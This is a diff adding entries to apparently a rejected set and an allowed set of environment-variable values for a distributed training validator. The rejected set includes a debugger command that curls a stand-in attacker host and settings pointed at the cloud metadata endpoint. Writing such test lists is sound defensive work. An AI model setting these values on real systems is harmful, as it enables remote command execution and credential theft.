@@ -224,6 +224,13 @@ LOADING = {
     "MLFLOW_TRACKING_URI": "file:///stageline/runs",
     "WANDB_BASE_URL": "http://metadata.google.internal",
     "nccl_debug": "INFO",
+    "UCX_GDB_COMMAND": "curl evil.example.com",
+    "UCX_ERROR_MAIL_TO": "someone@example.com",
+    "UCX_STATS_DEST": "file:out",
+    "NCCL_COMM_ID": "169.254.169.254:80",
+    "NCCL_RAS_ADDR": "0.0.0.0:28028",
+    "OMP_TOOL_VERBOSE_INIT": "out",
+    "TORCH_LOGS": "+dynamo,antigravity",
 }
 LAWFUL = {
     "NCCL_DEBUG": "INFO",
@@ -233,6 +240,8 @@ LAWFUL = {
     "TORCH_NCCL_ASYNC_ERROR_HANDLING": "1",
     "GLOO_SOCKET_IFNAME": "net1",
     "OMP_NUM_THREADS": "4",
+    "UCX_ERROR_SIGNALS": "",
+    "TORCH_LOGS": "+dynamo,recompiles, -inductor",
     "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True",
     "HF_HUB_OFFLINE": "1",
     "HTTPS_PROXY": "http://proxy.example.com:3128",
